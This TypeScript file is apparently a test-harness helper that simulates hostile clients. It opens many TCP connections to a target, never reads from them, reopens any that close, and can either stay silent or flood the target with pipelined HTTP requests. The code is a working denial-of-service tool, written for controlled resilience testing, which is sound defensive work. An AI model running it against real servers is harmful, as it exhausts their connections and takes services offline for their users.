// Run in the attacker's network namespace, with an Attack in JSON: keeps connections open that read nothing, and after a
// while replaces those that are closed. Writes a line when all have been opened, and runs until its stdin ends.
import { createConnection } from "node:net";
import type { Attack } from "./attack.ts";

const attack: Attack = JSON.parse(process.argv[2] ?? "");
let opened = 0;

for (let index = 0; index < attack.count; index++) open(index);
process.stdin.on("end", () => process.exit()).resume();

function open(index: number): void {
  const port = attack.ports[index % attack.ports.length] ?? 0;
  const localAddress = attack.sources[index % attack.sources.length] ?? "";
  // Without a listener for its data, a socket reads at most one buffer.
  const socket = createConnection({ host: attack.to, port, localAddress });
  socket.on("error", () => undefined);
  socket.once("close", () => setTimeout(() => open(index), 3000));
  socket.once("connect", () => {
    opened += 1;
    if (opened === attack.count) process.stdout.write("opened\n");
    if (attack.kind === "silence") return;
    const request = `GET ${attack.path} HTTP/1.1\r\nHost: here\r\n\r\n`;
    const text = attack.kind === "flood" ? request.repeat(1000) : request;
    const send = () => {
      while (!socket.destroyed && socket.write(text) && attack.kind === "flood");
    };
    socket.on("drain", () => attack.kind === "flood" && send());
    send();
  });
}
